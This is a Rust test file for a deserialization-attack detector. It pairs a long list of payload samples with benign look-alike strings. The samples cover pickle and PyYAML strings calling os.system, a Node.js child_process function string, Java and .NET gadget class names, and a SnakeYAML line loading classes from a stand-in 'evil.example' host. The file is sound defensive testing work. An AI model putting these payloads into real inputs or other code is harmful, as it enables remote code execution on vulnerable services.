use proptest::prelude::*;

use crate::security::{
    detectors::{Clues, Detector, Subject, trial},
    normalise::{part::Place, step::Steps},
};

#[test]
fn attacks_are_told_from_ordinary_text() {
    trial::check(Detector::Deserialization, ATTACKS, ORDINARY);
}

#[test]
fn streams_are_known_by_their_first_bytes() {
    let level = |bytes: &[u8]| trial::level(Detector::Deserialization, Place::Text, None, bytes);
    assert_eq!(level(b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet"), Some(1));
    assert_eq!(level(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00"), Some(1));
    assert_eq!(level(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c"), Some(1));
    assert_eq!(level(b"\x04\x08o:\x0bObject"), Some(1));
    assert_eq!(level(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), None);
    assert_eq!(level(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"), None);
}

#[test]
fn a_member_that_names_a_class_is_none_that_names_a_kind() {
    let level = |name, value: &str| {
        trial::level(Detector::Deserialization, Place::JsonString, Some(name), value.as_bytes())
    };
    assert_eq!(level("@type", "com.sun.rowset.JdbcRowSetImpl"), Some(1));
    assert_eq!(level("@type", "java.lang.Class"), Some(1));
    assert_eq!(
        level("$type", "System.Windows.Data.ObjectDataProvider, PresentationFramework"),
        Some(1)
    );
    assert_eq!(level("@type", "Person"), None);
    assert_eq!(level("class", "basic"), None);
    assert_eq!(level("name", "java.lang.Class"), None);
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(bytes in prop::collection::vec(any::<u8>(), 0..300), text in "([OCas]:|[0-9]|[\"!.<{}@$\\n]|type|cos|class){0,60}") {
        for bytes in [&bytes[..], text.as_bytes()] {
            let _level = Detector::Deserialization.suspicion(&Subject {
                bytes,
                place: Place::JsonString,
                name: Some("@type"),
                steps: Steps::default(),
                clues: Clues::of(bytes),
            });
        }
    }
}

const ATTACKS: &[&str] = &[
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==",
    "rO0ABXNyAC5qYXZheC5tYW5hZ2VtZW50",
    "aced0005737200116a617661",
    "ACED000573720011",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAE",
    "gASVHQAAAAAAAACMBXBvc2l4",
    "gANjcG9zaXgKc3lzdGVtCg==",
    "BAhvOgtPYmplY3QA",
    "BAh7CEkiD3Nlc3Npb24",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "O:8:\"stdClass\":0:{}",
    "O:+8:\"stdClass\":0:{}",
    "O:14:\"Illuminate\\Foo\":1:{}",
    "x;O:4:\"Evil\":0:{}",
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{}}",
    "a:1:{i:0;O:4:\"Evil\":0:{}}",
    "a:2:{s:1:\"a\";i:1;s:1:\"b\";i:2;}",
    "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
    "cos\nsystem\n(S'id'\ntR.",
    "cposix\nsystem\n(S'id'\ntR.",
    "c__builtin__\neval\n(S'1'\ntR.",
    "csubprocess\nPopen\n(S'id'\ntR.",
    "(dp0\nS'x'\ncos\nsystem\n(S'id'\ntR.",
    "Y29zCnN5c3RlbQooUydpZCcKdFIu",
    "!!python/object/apply:os.system ['id']",
    "!!python/object/new:os.system [id]",
    "!!python/name:os.system",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: x}",
    "!!java.lang.ProcessBuilder [id]",
    "--- !ruby/object:Gem::Installer",
    "!ruby/hash:ActionController::Routing",
    "_$$ND_FUNC$$_function(){require('child_process')}()",
    "{\"rce\":\"_$$ND_FUNC$$_function (){x}()\"}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"x\"}",
    "{\"@type\": \"org.apache.xbean.propertyeditor.JndiConverter\"}",
    "{\"@type\":\"java.lang.AutoCloseable\"}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
    "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}",
    "{\"py/object\":\"os.system\"}",
    "{\"py/reduce\":[{\"py/type\":\"os.system\"}]}",
    "{\"json_class\":\"Gem::Installer\"}",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "javax.management.BadAttributeValueExpException",
    "java.util.PriorityQueue",
    "org.codehaus.groovy.runtime.MethodClosure",
    "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
    "ysoserial.payloads.CommonsCollections1",
    "System.Diagnostics.Process",
    "<sorted-set><dynamic-proxy>x</dynamic-proxy></sorted-set>",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\">",
    "<void method=\"exec\">",
];

const ORDINARY: &[&str] = &[
    "O: 8",
    "O:8",
    "O:8:",
    "Obs.:1:2",
    "a:1",
    "a:1:2",
    "a:1:{x}",
    "a:{b:1}",
    "às 10:30:00",
    "ISO:8:\"x\"",
    "s:5:\"abcde\";",
    "Cos\nseno",
    "cos\n",
    "custos\nsystem\n",
    "os\nsystem\n",
    "Seguro!!",
    "Olá! Tudo bem?",
    "!important",
    "!! atenção !!",
    "Ruby!ruby",
    "python",
    "!python",
    "_$_",
    "$_id",
    "_$$_",
    "{\"@type\":\"Person\"}",
    "{\"@type\": \"Organization\", \"name\": \"x\"}",
    "{\"$type\":\"a\"}",
    "{\"class\":\"basic\"}",
    "{\"class\":\"a.b\"}",
    "{\"type\":\"com.example.x\"}",
    "java.util.List",
    "java.lang.String",
    "java.lang.NullPointerException",
    "com.example.app",
    "org.springframework.web",
    "br.com.seguradora.app",
    "System.out",
    "system.diagnostics",
    "Windows.Data",
    "A priority queue. PriorityQueues",
    "rO0",
    "rO0A",
    "gASV",
    "aced",
    "BAh7",
    "BAHIA",
    "AAEAAAD",
    "<java>",
    "<sorted>",
    "H4sIAAAAAAAAAJ",
    "eyJhIjoxfQ==",
    "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7",
];
